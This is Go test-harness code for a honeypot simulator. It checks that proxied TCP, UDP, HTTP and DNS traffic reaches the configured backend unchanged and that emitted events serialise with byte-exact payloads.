				l, err := n.ListenTCP(&net.TCPAddr{IP: net.ParseIP(ip), Port: lport}, "backend")
				if err != nil {
					w.Obs.BootErr = err.Error()
					return
				}
				go func() {
					for {
						c, err := l.Accept()
						if err != nil {
							return
						}
						if ip == decoyAddr {
							be.mu.Lock()
							be.decoy++
							be.mu.Unlock()
							c.Close()
							continue
						}
						be.mu.Lock()
						be.accepted++
						be.port[c.RemoteAddr().String()] = lport
						be.mu.Unlock()
						go c15Serve(be, &p, respByTag, c)
					}
				}()
			}
		default:
			for _, ipp := range c15Listeners(&p) {
				ip, lport := ipp.ip, ipp.port
				u, err := n.ListenUDPRemote(&net.UDPAddr{IP: net.ParseIP(ip), Port: lport})
				if err != nil {
					w.Obs.BootErr = err.Error()
					return
				}
				go func() {
					buf := make([]byte, 65535)
					for {
						k, from, err := u.ReadFromUDP(buf)
						if err != nil {
							return
						}
						be.mu.Lock()
						if ip == decoyAddr {
							be.decoy++
							be.mu.Unlock()
							continue
						}
						be.dgrams = append(be.dgrams, append([]byte(nil), buf[:k]...))
						be.dgPort = append(be.dgPort, lport)
						be.mu.Unlock()
						if p.Fault == "close-mid-reply" {
							continue // the backend never answers
						}
						u.WriteToUDP(append([]byte("R:"), buf[:k]...), from)
					}
				}()
			}
		}
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		w.Play()
		w.Drain()
	})
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1 || isSegmented(sc)
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	if p.Fault != "" {
		res.fault("backend-"+p.Fault, 1)
	}
	site := p.Mode
	// the proxy dials nothing but the configured backend
	wantDial := map[string]bool{fmt.Sprintf("%s:%d", backendAddr, p.Port): true}
	if p.Port2 != 0 && !p.HostPort {
		wantDial[fmt.Sprintf("%s:%d", backendAddr, p.Port2)] = true
	}
	for _, l := range obs.NetLog {
		if i := strings.Index(l, " dial "); i >= 0 {
			f := strings.Fields(l[i+6:])
			if len(f) == 2 && !wantDial[f[1]] {
				res.Violate("dial-to-foreign-address", site, fmt.Sprintf("the proxy dialled %s %s, the configured backend is %v", f[0], f[1], sortedBoolKeys(wantDial)))
				return res
			}
			res.probe("dials", 1)
		}
	}
	// the backend port a client's traffic must arrive on: the configured one, or (host without port) the
	// port of the connection being proxied
	wantPort := func(ai int) int {
		if p.HostPort {
			return p.Port
		}
		return portOf(sc.Actors[ai].Dst)
	}
	be.mu.Lock()
	defer be.mu.Unlock()
	if be.decoy > 0 {
		res.Violate("decoy-contacted", site, fmt.Sprintf("the decoy backend saw %d connections/datagrams", be.decoy))
		return res
	}
	faulty := p.Fault != ""
	switch p.Mode {
	case "http":
		c15CheckHTTP(sc, obs, &p, be, faulty, &res)
	case "copy-tcp", "dns-tcp":
		if p.Mode == "dns-tcp" {
			site = "dns-proxy-tcp"
		}
		// every client's stream reached the backend unchanged on its own connection, and came back transformed
		var got [][]byte
		for _, s := range be.streams {
			got = append(got, s)
		}
		for ai, a := range sc.Actors {
			var sent []byte
			for _, o := range a.Ops {
				if o.K == "send" {
					sent = append(sent, o.Bytes()...)
				}
			}
			found := len(sent) == 0
			for _, g := range got {
				if bytes.Equal(g, sent) {
					found = true
				}
			}
			faulty := faulty || c15Relaxed(sc, obs, ai)
			if !faulty && len(sent) > 0 {
				for k, g := range be.streams {
					if bytes.Equal(g, sent) && be.port[k] != wantPort(ai) {
						res.Violate("relayed-to-wrong-backend-port", site, fmt.Sprintf("client %d connected to port %d; its stream arrived at the backend's port %d, want %d", ai, portOf(a.Dst), be.port[k], wantPort(ai)))
						return res
					}
				}
			}
			if !found && !faulty {
				res.Violate("stream-not-relayed-to-backend", site, fmt.Sprintf("client %d sent %d bytes; the backend received streams of %v bytes on %d connections, none equal", ai, len(sent), lens(got), be.accepted))
				return res
			}
			want := copyTransform(sent)
			if p.Mode == "dns-tcp" {
				want = dnsTCPReply(sent)
			}
			if faulty {
				if !bytes.HasPrefix(want, obs.Conns[ai].Recv) {
					res.Violate("reply-corrupt", site, fmt.Sprintf("client %d received bytes that are not a prefix of the backend's reply", ai))
					return res
				}
				continue
			}
			if !bytes.Equal(obs.Conns[ai].Recv, want) {
				res.Violate("reply-not-relayed-to-client", site, fmt.Sprintf("client %d sent %d bytes, the backend answered %d bytes, the client received %d bytes", ai, len(sent), len(want), len(obs.Conns[ai].Recv)))
				return res
			}
			if cat := map[string]string{"copy-tcp": "copy", "dns-tcp": "dns-proxy"}[p.Mode]; !c15HasEvent(obs, a.Src, cat) {
				res.Violate("relay-not-reported", site, fmt.Sprintf("no %s event attributed to client %s", cat, a.Src))
				return res
			}
			res.probe("streams-verified", 1)
		}
	default:
		var want [][]byte
		for ai, a := range sc.Actors {
			var mine [][]byte
			for _, o := range a.Ops {
				if o.K == "send" {
					want = append(want, o.Bytes())
					mine = append(mine, append([]byte("R:"), o.Bytes()...))
				}
			}
			gotR := append([][]byte(nil), obs.Conns[ai].Dgrams...)
			if faulty {
				for _, g := range gotR {
					ok := false
					for _, m := range mine {
						if bytes.Equal(g, m) {
							ok = true
						}
					}
					if !ok {
						res.Violate("reply-corrupt", site, fmt.Sprintf("client %d received a datagram that is none of the backend's replies to it", ai))
						return res
					}
				}
				continue
			}
			if !sameMultiset(gotR, mine) {
				res.Violate("reply-not-relayed-to-client", site, fmt.Sprintf("client %d sent %d datagrams and received %d replies %v, the backend's replies to them are %v", ai, len(mine), len(gotR), lens(gotR), lens(mine)))
				return res
			}
			cat := "copy"
			if p.Mode == "dns" {
				cat = "dns-proxy"
			}
			if !c15HasEvent(obs, a.Src, cat) {
				res.Violate("relay-not-reported", site, fmt.Sprintf("no %s event attributed to client %s", cat, a.Src))
				return res
			}
			res.probe("datagram-clients-verified", 1)
		}
		if !faulty {
			for ai, a := range sc.Actors {
				for _, o := range a.Ops {
					if o.K != "send" {
						continue
					}
					for di, d := range be.dgrams {
						if bytes.Equal(d, o.Bytes()) && be.dgPort[di] != wantPort(ai) {
							res.Violate("relayed-to-wrong-backend-port", site, fmt.Sprintf("client %d sent to port %d; its datagram arrived at the backend's port %d, want %d", ai, portOf(a.Dst), be.dgPort[di], wantPort(ai)))
							return res
						}
					}
				}
			}
		}
		if !faulty && !sameMultiset(be.dgrams, want) {
			res.Violate("datagram-not-relayed-to-backend", site, fmt.Sprintf("clients sent %d datagrams %v, the backend received %d %v", len(want), lens(want), len(be.dgrams), lens(be.dgrams)))
			return res
		}
	}
	return res
}

// c15Relaxed: the client did not behave like a client the statement speaks about - it left without
// waiting for its replies, or the (interleaved) schedule put an idle gap near the 30 s deadline into its
// stream.  Only "nothing wrong is delivered" is required then.
func c15Relaxed(sc *Scenario, obs *Obs, ai int) bool {
	a := &sc.Actors[ai]
	waited := false
	for i, o := range a.Ops {
		if o.K == "sleep" && o.Ms >= 1000 {
			waited = true
		}
		if (o.K == "close" || o.K == "reset") && !waited && i > 0 {
			return true
		}
	}
	if !waited && a.Kind == "tcp" {
		return true
	}
	co := &obs.Conns[ai]
	prev := co.ConnectMs
	for _, tm := range co.SegMs {
		if tm-prev >= 25000 {
			return true
		}
		prev = tm
	}
	return false
}

func lens(x [][]byte) []int {
	var l []int
	for _, b := range x {
		l = append(l, len(b))
	}
	return l
}

func sameMultiset(a, b [][]byte) bool {
	if len(a) != len(b) {
		return false
	}
	sa, sb := make([]string, len(a)), make([]string, len(b))
	for i := range a {
		sa[i], sb[i] = string(a[i]), string(b[i])
	}
	sort.Strings(sa)
	sort.Strings(sb)
	for i := range sa {
		if sa[i] != sb[i] {
			return false
		}
	}
	return true
}

func c15HasEvent(obs *Obs, src, category string) bool {
	for _, e := range obs.Events {
		if e.M["category"] == category && (eventSrc(e.M) == src || e.M["remote-addr"] == src) {
			return true
		}
	}
	return false
}

// c15Serve is the scripted TCP backend.
func c15Serve(be *c15Backend, p *c15Params, respByTag map[string]c15Exchange, c net.Conn) {
	defer c.Close()
	key := c.RemoteAddr().String()
	if p.Mode == "copy-tcp" {
		buf := make([]byte, 4096)
		for {
			n, err := c.Read(buf)
			if n > 0 {
				be.mu.Lock()
				be.streams[key] = append(be.streams[key], buf[:n]...)
				be.mu.Unlock()
				if p.Fault == "close-mid-reply" {
					c.Write(copyTransform(buf[:n/2]))
					return
				}
				c.Write(copyTransform(buf[:n]))
			}
			if err != nil {
				return
			}
		}
	}
	if p.Mode == "dns-tcp" {
		// a DNS server on TCP: length-prefixed queries, each answered with the length-prefixed response
		for {
			hdr := make([]byte, 2)
			if _, err := io.ReadFull(c, hdr); err != nil {
				return
			}
			msg := make([]byte, int(hdr[0])<<8|int(hdr[1]))
			n, err := io.ReadFull(c, msg)
			be.mu.Lock()
			be.streams[key] = append(append(be.streams[key], hdr...), msg[:n]...)
			be.mu.Unlock()
			if err != nil {
				return
			}
			reply := dnsTCPReply(append(hdr, msg...))
			if p.Fault == "close-mid-reply" {
				c.Write(reply[:len(reply)/2])
				return
			}
			c.Write(reply)
		}
	}
	// http: record raw bytes, parse requests, answer with the scripted response for the request's tag
	rec := &recordingReader{r: c, be: be, key: key}
	br := bufio.NewReader(rec)
	for {
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		io.Copy(io.Discard, req.Body)
		tag := ""
		if parts := strings.Split(req.URL.Path, "/"); len(parts) > 1 {
			tag = parts[1]
		}
		ex, ok := respByTag[tag]
		if !ok {
			c.Write([]byte("HTTP/1.1 400 Unknown\r\nContent-Length: 0\r\n\r\n"))
			continue
		}
		resp, _ := hex.DecodeString(ex.Resp)
		segs := Op{Data: ex.Resp, Cuts: ex.RespCuts}.Segments()
		if p.Fault == "close-mid-reply" {
			c.Write(resp[:len(resp)/2])
			return
		}
		for i, s := range segs {
			c.Write(s)
			if i < len(segs)-1 {
				time.Sleep(time.Millisecond) // the next segment arrives at a later instant
			}
		}
	}
}

type recordingReader struct {
	r   io.Reader
	be  *c15Backend
	key string
}

func (r *recordingReader) Read(b []byte) (int, error) {
	n, err := r.r.Read(b)
	if n > 0 {
		r.be.mu.Lock()
		r.be.streams[r.key] = append(r.be.streams[r.key], b[:n]...)
		r.be.mu.Unlock()
	}
	return n, err
}

type httpMsg struct {
	Method, Target string
	Status         int
	Headers        []string // canonical "Key: value", sorted
	Body           []byte
}

func canonHeaders(h http.Header, drop ...string) []string {
	var out []string
	for k, vs := range h {
		skip := false
		for _, d := range drop {
			if strings.EqualFold(k, d) {
				skip = true
			}
		}
		if skip {
			continue
		}
		for _, v := range vs {
			out = append(out, http.CanonicalHeaderKey(k)+": "+v)
		}
	}
	sort.Strings(out)
	return out
}

func parseRequests(b []byte) ([]httpMsg, error) {
	var out []httpMsg
	br := bufio.NewReader(bytes.NewReader(b))
	for {
		if _, err := br.Peek(1); err != nil {
			return out, nil
		}
		r, err := http.ReadRequest(br)
		if err != nil {
			return out, err
		}
		body, _ := io.ReadAll(r.Body)
		// transfer framing (Content-Length / Transfer-Encoding) may legitimately be re-done by a proxy
		out = append(out, httpMsg{Method: r.Method, Target: r.RequestURI, Headers: append(canonHeaders(r.Header, "Content-Length", "Transfer-Encoding"), "Host: "+r.Host), Body: body})
	}
}

func parseResponses(b []byte, methods []string) ([]httpMsg, error) {
	var out []httpMsg
	br := bufio.NewReader(bytes.NewReader(b))
	for i := 0; ; i++ {
		if _, err := br.Peek(1); err != nil {
			return out, nil
		}
		m := "GET"
		if i < len(methods) {
			m = methods[i]
		}
		r, err := http.ReadResponse(br, &http.Request{Method: m})
		if err != nil {
			return out, err
		}
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return out, err
		}
		out = append(out, httpMsg{Status: r.StatusCode, Headers: canonHeaders(r.Header, "Content-Length", "Transfer-Encoding"), Body: body})
	}
}

func c15CheckHTTP(sc *Scenario, obs *Obs, p *c15Params, be *c15Backend, faulty bool, res *Result) {
	site := "http"
	// all requests the backend saw, by tag
	seen := map[string]httpMsg{}
	seenPort := map[string]int{}
	for sk, s := range be.streams {
		msgs, _ := parseRequests(s)
		for _, m := range msgs {
			parts := strings.Split(strings.SplitN(m.Target, "?", 2)[0], "/")
			if len(parts) > 1 {
				if _, dup := seen[parts[1]]; dup {
					res.Violate("request-relayed-twice", site, fmt.Sprintf("the backend received request %s twice", parts[1]))
					return
				}
				seen[parts[1]] = m
				seenPort[parts[1]] = be.port[sk]
			}
		}
	}
	for ai, a := range sc.Actors {
		faulty := faulty || c15Relaxed(sc, obs, ai)
		var sentRaw []byte
		var methods []string
		for _, o := range a.Ops {
			if o.K == "send" {
				sentRaw = append(sentRaw, o.Bytes()...)
			}
		}
		sent, err := parseRequests(sentRaw)
		if err != nil {
			res.Violate("infra", "generator", "client request does not parse: "+err.Error())
			return
		}
		var wantResp []httpMsg
		for _, m := range sent {
			methods = append(methods, m.Method)
			tag := strings.Split(strings.SplitN(m.Target, "?", 2)[0], "/")[1]
			got, ok := seen[tag]
			if !ok {
				if faulty {
					continue
				}
				res.Violate("request-not-relayed-to-backend", site, fmt.Sprintf("client %d: request %s %s never reached the backend (%d requests did); kernel log: %v", ai, m.Method, m.Target, len(seen), obs.NetLog))
				return
			}
			wp := p.Port
			if !p.HostPort {
				wp = portOf(a.Dst)
			}
			if !faulty && seenPort[tag] != wp {
				res.Violate("relayed-to-wrong-backend-port", site, fmt.Sprintf("client %d connected to port %d; request %s arrived at the backend's port %d, want %d", ai, portOf(a.Dst), tag, seenPort[tag], wp))
				return
			}
			if got.Method != m.Method || got.Target != m.Target {
				res.Violate("request-line-changed", site, fmt.Sprintf("client sent %s %s, the backend received %s %s", m.Method, m.Target, got.Method, got.Target))
				return
			}
			if !bytes.Equal(got.Body, m.Body) {
				var raw []string
				for k, s := range be.streams {
					raw = append(raw, fmt.Sprintf("%s: %q", k, short(string(s), 700)))
				}
				res.Violate("request-body-changed", site, fmt.Sprintf("request %s: client sent a body of %d bytes, the backend received %d bytes; backend streams: %v", tag, len(m.Body), len(got.Body), raw))
				return
			}
			if strings.Join(got.Headers, "\n") != strings.Join(m.Headers, "\n") {
				var raw []string
				for k, s := range be.streams {
					raw = append(raw, fmt.Sprintf("%s: %q", k, short(string(s), 900)))
				}
				res.Violate("request-headers-changed", site, fmt.Sprintf("request %s: client sent headers %q, the backend received %q; backend streams: %v", tag, m.Headers, got.Headers, raw))
				return
			}
			// the scripted response for this request
			for _, exs := range p.Exchanges {
				for _, ex := range exs {
					rq, _ := hex.DecodeString(ex.Req)
					if bytes.Contains(rq, []byte("/"+tag+"/")) {
						rb, _ := hex.DecodeString(ex.Resp)
						rm, _ := parseResponses(rb, []string{m.Method})
						wantResp = append(wantResp, rm...)
					}
				}
			}
			// the relayed request is on record, attributed to the client
			found := false
			for _, e := range obs.Events {
				if e.M["category"] == "http" && e.M["remote-addr"] == a.Src && fmt.Sprint(e.M["url"]) == m.Target && fmt.Sprint(e.M["method"]) == m.Method {
					found = true
				}
			}
			// a request that reached the backend has been relayed, whatever happened to the reply afterwards (backend
			// closing mid-reply, client gone): it must be on record
			if !found {
				res.Violate("relay-not-reported", site, fmt.Sprintf("no event records %s %s for client %s although the backend received the request (fault: %q)", m.Method, m.Target, a.Src, p.Fault))
				return
			}
			res.probe("requests-verified", 1)
		}
		// a client that waits for a reply before it goes on must have it by then: replies are not held back until
		// more of the client's stream arrives
		for oi, o := range a.Ops {
			if o.K != "send" || !strings.HasPrefix(o.Note, "after-reply:") || faulty {
				continue
			}
			var nwant int
			fmt.Sscanf(strings.TrimPrefix(o.Note, "after-reply:"), "%d", &nwant)
			var before []byte
			for _, c := range obs.Conns[ai].Chunks {
				if c.Step < obs.Conns[ai].OpStep[oi] {
					before = append(before, c.Data...)
				}
			}
			early, _ := parseResponses(before, methods)
			if len(early) < nwant {
				res.Violate("reply-held-back", site, fmt.Sprintf("client %d had sent %d complete requests (and the first bytes of the next) and waited two seconds: %d replies had arrived by then (%d bytes received)", ai, nwant, len(early), len(before)))
				return
			}
			res.probe("client-waited-for-reply-mid-stream", 1)
		}
		gotResp, err := parseResponses(obs.Conns[ai].Recv, methods)
		if faulty {
			continue // truncated or missing replies are legitimate here; corruption is caught by parsing below
		}
		if err != nil {
			res.Violate("reply-corrupt", site, fmt.Sprintf("client %d: the bytes received do not parse as HTTP responses (%v): %q", ai, err, short(string(obs.Conns[ai].Recv), 200)))
			return
		}
		if len(gotResp) != len(wantResp) {
			res.Violate("reply-not-relayed-to-client", site, fmt.Sprintf("client %d sent %d requests and received %d responses", ai, len(wantResp), len(gotResp)))
			return
		}
		for i := range wantResp {
			w, g := wantResp[i], gotResp[i]
			if w.Status != g.Status || !bytes.Equal(w.Body, g.Body) || strings.Join(w.Headers, "\n") != strings.Join(g.Headers, "\n") {
				res.Violate("reply-changed", site, fmt.Sprintf("client %d response %d: backend sent status %d headers %q body %d bytes; client received status %d headers %q body %d bytes", ai, i, w.Status, w.Headers, len(w.Body), g.Status, g.Headers, len(g.Body)))
				return
			}
			res.probe("responses-verified", 1)
		}
	}
	_ = synctest.Wait
}

type c15Listen struct {
	ip   string
	port int
}

// c15Listeners: backend and decoy on every port a client may be proxied to.
func c15Listeners(p *c15Params) []c15Listen {
	var out []c15Listen
	for _, ip := range []string{backendAddr, decoyAddr} {
		out = append(out, c15Listen{ip, p.Port})
		if p.Port2 != 0 {
			out = append(out, c15Listen{ip, p.Port2})
		}
	}
	return out
}

func sortedBoolKeys(m map[string]bool) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

// dnsTCPReply: the framed response a DNS server gives to a framed query - the same message with the QR bit set.
func dnsTCPReply(framedQuery []byte) []byte {
	r := append([]byte(nil), framedQuery...)
	if len(r) > 4 {
		r[4] |= 0x80
	}
	return r
}
