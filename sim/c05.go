package htsim

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strconv"
	"strings"
	"testing"
	"testing/synctest"
	"time"
	"unicode/utf8"

	"github.com/honeytrap/honeytrap/event"
)

// C05 — recorded payloads are byte-exact and every emitted event serialises (the MergeFrom/CopyFrom
// clause is a pure function; it is evaluated on the events the simulation produced, nothing more).
//
// History invariants over every event of simulated runs of three workloads: segmented dialogues
// (C04's generator), hostile inputs (C01's generator), and a payload sweep (all 256 single bytes, 2-byte
// strings, invalid UTF-8/NUL/control bytes, up to 64 KiB) through echo/memcached/counterstrike/snmp and
// through the raw listener's generic UDP and TCP handlers.

func init() {
	engines["C05"] = &Engine{Gen: genC05, Run: runC05}
}

func genC05(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c05")
	switch idx % 4 {
	case 0:
		sc := genC04(seed, idx/4, tier)
		sc.Params["workload"] = "dialogue"
		sc.Class = "dialogue/" + sc.Class
		return sc
	case 1:
		sc := buildHostileScenario(r, idx/4, 2, []string{"close", "close", "reset", "halfclose"})
		sc.Params["workload"] = "hostile"
		sc.Class = "hostile/" + sc.Class
		sc.DrainMs = 31000
		return sc
	case 2:
		return genC05Sweep(r, idx/4)
	default:
		return genC05Raw(r, idx/4)
	}
}

func c05Payload(r *Rng, k int) []byte {
	switch r.Intn(8) {
	case 0:
		return []byte{byte(k)} // all single bytes over the sweep
	case 1:
		return []byte{byte(k), byte(r.Intn(256))}
	case 2:
		return []byte{0xff, 0xfe, 0x00, 0xc3, 0x28, byte(k)} // invalid UTF-8, NUL
	case 3:
		return append([]byte("\x00\x01\x02\x7f\r\n\t\""), r.Bytes(r.Range(0, 20))...)
	case 4:
		n := r.Range(1000, 65000)
		return r.Bytes(n)
	default:
		return r.Bytes(r.Range(1, 300))
	}
}

func genC05Sweep(r *Rng, idx int) *Scenario {
	sc := &Scenario{Engine: "c05", Params: map[string]interface{}{"workload": "sweep"}}
	svcs := []string{"echo-udp", "counterstrike", "memcached", "echo-udp"}
	key := svcs[idx%len(svcs)]
	s := svcByKey(key)
	sc.Config = baseConfig + s.config("svc0")
	n := 16
	for i := 0; i < n; i++ {
		k := (idx*n + i) % 256
		pl := c05Payload(r, k)
		a := Actor{Kind: "tcp", Src: clientAddr(i), Dst: fmt.Sprintf("%s:%d", sensorIP, s.Port), Svc: key}
		if s.UDP {
			a.Kind = "udp"
			if key == "counterstrike" {
				pl = append([]byte{0xff, 0xff, 0xff, 0xff, 0x54}, pl...)
			}
			a.Ops = []Op{SendOp(pl, nil, "payload")}
		} else {
			// memcached storage command: the recorded payload is the first 80 bytes of the data block
			line := fmt.Sprintf("set k%d 0 0 %d\r\n", i, len(pl))
			op := SendOp(append(append([]byte(line), pl...), '\r', '\n'), r.Cuts(len(line)+len(pl)+2), "set")
			a.Ops = []Op{op, {K: "close"}}
		}
		sc.Actors = append(sc.Actors, a)
	}
	sc.Class = "sweep/" + key
	sc.Schedule = r.Schedule(64)
	sc.DrainMs = 1000
	return sc
}

func genC05Raw(r *Rng, idx int) *Scenario {
	sc := &Scenario{Engine: "c05", Params: map[string]interface{}{"workload": "raw"}}
	nc := rawNetConfig{GatewayRoute: true, GatewayARP: true}
	a := Actor{Kind: "nic", Name: "nic"}
	for i := 0; i < 12; i++ {
		k := (idx*12 + i) % 256
		ip := fmt.Sprintf("10.0.%d.%d", 3+i%3, 40+i)
		nc.ARPPeers = append(nc.ARPPeers, ip)
		pl := c05Payload(r, k)
		if len(pl) > 1400 {
			pl = pl[:1400]
		}
		port := r.Range(2000, 60000)
		for port == 5060 || port == 1900 {
			port++
		}
		spec := map[string]interface{}{"ip": ip, "sport": 30000 + i, "dport": port, "payload": hex.EncodeToString(pl)}
		ej, _ := json.Marshal(spec)
		a.Ops = append(a.Ops, Op{K: "udpframe", Exp: ej})
	}
	sc.Actors = []Actor{a}
	nj, _ := json.Marshal(nc)
	var nm map[string]interface{}
	json.Unmarshal(nj, &nm)
	sc.Params["net"] = nm
	sc.Config = rawBaseConfig
	sc.Class = "raw/udp"
	sc.DrainMs = 100
	return sc
}

type c05Conn struct {
	src, dstIP string
	dstPort    int
	udp        bool
	stream     []byte   // TCP: everything delivered
	dgrams     [][]byte // UDP: datagrams delivered
}

// c05Monitor evaluates the event invariants.
func c05Monitor(obs *Obs, conns []c05Conn, res *Result) {
	bySrc := map[string]*c05Conn{}
	for i := range conns {
		bySrc[conns[i].src] = &conns[i]
	}
	mergeChecked := 0
	for _, e := range obs.Events {
		m := e.M
		// (i) serialises, and the JSON has every key
		b, err := json.Marshal(e.Ev)
		if err != nil {
			res.Violate("event-does-not-serialise", fmt.Sprint(m["category"]), fmt.Sprintf("json.Marshal fails for event %s: %v", short(EventLine(m, nil), 300), err))
			continue
		}
		var back map[string]interface{}
		if err := json.Unmarshal(b, &back); err != nil {
			res.Violate("event-json-invalid", fmt.Sprint(m["category"]), fmt.Sprintf("marshalled event does not parse back: %v", err))
			continue
		}
		for k := range m {
			// encoding/json coerces strings (also keys) to valid UTF-8
			if _, ok := back[jsonCoerce(k)]; !ok {
				res.Violate("event-json-key-missing", fmt.Sprint(m["category"]), fmt.Sprintf("key %q stored in the event is missing from its JSON %s", k, short(string(b), 300)))
			}
		}
		res.probe("events-serialised", 1)
		// (i-b) merging keeps the keys the event already has, copying overwrites them.  A pure function of the
		// event and the merged map: the simulator only supplies the events (every event a service emitted in this
		// run, with the value types services really store) - no schedule or fault enters this clause.
		if mergeChecked < 40 {
			mergeChecked++
			c05MergeCopy(m, res)
		}
		// (ii) payload / payload-hex / payload-length agree
		var payload []byte
		hasPayload := false
		if hx, ok := m["payload-hex"]; ok {
			hs, _ := hx.(string)
			raw, err := hex.DecodeString(hs)
			if err != nil {
				res.Violate("payload-hex-invalid", fmt.Sprint(m["category"]), fmt.Sprintf("payload-hex %q does not decode", short(hs, 80)))
				continue
			}
			ps, _ := m["payload"].(string)
			if !bytes.Equal(raw, []byte(ps)) {
				res.Violate("payload-hex-differs-from-payload", fmt.Sprint(m["category"]), fmt.Sprintf("payload-hex decodes to %d bytes %q, payload holds %d bytes %q", len(raw), short(string(raw), 60), len(ps), short(ps, 60)))
				continue
			}
			if ln, err := strconv.Atoi(fmt.Sprint(m["payload-length"])); err != nil || ln != len(raw) {
				res.Violate("payload-length-wrong", fmt.Sprint(m["category"]), fmt.Sprintf("payload-length %v, payload-hex has %d bytes", m["payload-length"], len(raw)))
				continue
			}
			payload, hasPayload = raw, true
			res.probe("payloads-checked", 1)
		}
		// (iii) addresses equal the connection's
		src := eventSrc(m)
		c := bySrc[src]
		if src != "" && m["source-port"] != nil && c == nil && m["category"] != "portscan" {
			res.Violate("event-source-unknown", fmt.Sprint(m["category"]), fmt.Sprintf("event carries source %s which is no connection of this run: %s", src, short(EventLine(m, nil), 300)))
			continue
		}
		if c != nil {
			if dp := fmt.Sprint(m["destination-port"]); m["destination-port"] != nil && dp != fmt.Sprint(c.dstPort) {
				res.Violate("event-destination-port-wrong", fmt.Sprint(m["category"]), fmt.Sprintf("connection %s -> %s:%d, event records destination port %s", c.src, c.dstIP, c.dstPort, dp))
				continue
			}
			if di := fmt.Sprint(m["destination-ip"]); m["destination-ip"] != nil && di != c.dstIP && !(c.udp && di == "::") {
				res.Violate("event-destination-ip-wrong", fmt.Sprint(m["category"]), fmt.Sprintf("connection %s -> %s:%d, event records destination ip %s", c.src, c.dstIP, c.dstPort, di))
				continue
			}
			res.probe("addresses-checked", 1)
			// raw received bytes: a contiguous part of what was delivered on that connection
			if hasPayload && len(payload) > 0 {
				cat := fmt.Sprint(m["category"])
				switch cat {
				case "echo", "counterstrike", "snmp", "udp":
					if c.udp {
						// the bytes recorded are bytes of one datagram of this source (a service may record only
						// the part its buffer or its length field covers), never anything else
						ok, exact := false, false
						for _, d := range c.dgrams {
							if bytes.Contains(d, payload) {
								ok = true
							}
							if bytes.Equal(d, payload) {
								exact = true
							}
						}
						if !ok {
							res.Violate("payload-not-the-datagram", cat, fmt.Sprintf("connection %s: recorded payload (%d bytes %q) is part of none of the %d datagram(s) sent", c.src, len(payload), short(string(payload), 40), len(c.dgrams)))
							continue
						}
						if exact {
							res.probe("datagram-payloads-exact", 1)
						} else {
							res.probe("datagram-payloads-partial", 1)
						}
					}
				case "memcached", "tcp":
					if !c.udp && !bytes.Contains(c.stream, payload) {
						res.Violate("payload-not-received-bytes", cat, fmt.Sprintf("connection %s: recorded payload (%d bytes %q) is not a contiguous part of the %d bytes delivered", c.src, len(payload), short(string(payload), 40), len(c.stream)))
						continue
					}
					res.probe("stream-payloads-contained", 1)
				}
			}
		}
	}
}

func connsOf(sc *Scenario) []c05Conn {
	var out []c05Conn
	for _, a := range sc.Actors {
		if a.Kind != "tcp" && a.Kind != "udp" && a.Kind != "sshsess" {
			continue
		}
		c := c05Conn{src: a.Src, dstIP: hostOf(a.Dst), dstPort: portOf(a.Dst), udp: a.Kind == "udp"}
		for _, o := range a.Ops {
			if o.K == "send" {
				if c.udp {
					c.dgrams = append(c.dgrams, o.Bytes())
				} else {
					c.stream = append(c.stream, o.Bytes()...)
				}
			}
		}
		out = append(out, c)
	}
	return out
}

func runC05(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var obs *Obs
	var conns []c05Conn
	var fileLines []string
	fileRead := false
	fileMust := 0
	switch sc.ParamStr("workload", "") {
	case "hostile":
		obs, _ = runHostile(t, sc, &res, nil, nil)
		// the liveness probe is C01's business
		if res.Kind == "probe-not-served" {
			res = okResult()
		}
		conns = append(connsOf(sc), c05Conn{src: "198.51.100.200:50000", dstIP: sensorIP, dstPort: probePort})
	case "raw":
		var nc rawNetConfig
		b, _ := json.Marshal(sc.Params["net"])
		json.Unmarshal(b, &nc)
		obs = RunScenario(t, sc, func(w *World) {
			var sys *SimSys
			w.PreBoot = func(dir string) { sys = installSimSys(dir, nc, &w.step) }
			if err := w.bootServer(sc.Config); err != nil {
				w.Obs.BootErr = err.Error()
				return
			}
			w.Custom = func(w *World, ai int, op Op) {
				var spec struct {
					IP      string `json:"ip"`
					Sport   int    `json:"sport"`
					Dport   int    `json:"dport"`
					Payload string `json:"payload"`
				}
				json.Unmarshal(op.Exp, &spec)
				pl, _ := hex.DecodeString(spec.Payload)
				ip := net.ParseIP(spec.IP).To4()
				sys.Inject(ethFrame(sensorMAC, peerMAC(ip), 0x0800, ipv4Packet(ip, sensorRaw, 17, 1, udpDatagram(ip, sensorRaw, uint16(spec.Sport), uint16(spec.Dport), pl))))
				conns = append(conns, c05Conn{src: fmt.Sprintf("%s:%d", spec.IP, spec.Sport), dstIP: "127.0.0.1", dstPort: spec.Dport, udp: true, dgrams: [][]byte{pl}})
			}
			w.Play()
			synctest.Wait()
			w.Drain()
		})
	default:
		// the real file channel runs beside the capture channel: what it writes (asynchronously, up to a second
		// later) is compared with each event as it was when it was sent
		fsc := sc.Clone()
		fsc.Config += "\n[channel.c05file]\ntype=\"file\"\nfilename=\"@TMP@/c05-events.log\"\nmaxsize=1073741824\n\n[[filter]]\nchannel=[\"c05file\"]\n"
		captureSnapJSON = true
		obs = RunScenario(t, fsc, func(w *World) {
			w.runStandard()
			if w.Obs.BootErr != "" {
				return
			}
			// everything sent up to here must be in the file after the channel's flush interval; what is sent while
			// waiting (a heartbeat) may or may not be
			fileMust = len(hub.snapshot())
			time.Sleep(2500 * time.Millisecond)
			synctest.Wait()
			files, _ := filepath.Glob(filepath.Join(w.TmpDir, "c05-events.log*"))
			for _, f := range files {
				b, _ := os.ReadFile(f)
				fileLines = append(fileLines, strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")...)
			}
			fileRead = true
		})
		captureSnapJSON = false
		conns = connsOf(sc)
	}
	res.Digest = traceDigest(obs, c04Skip)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(obs.Events) > 1
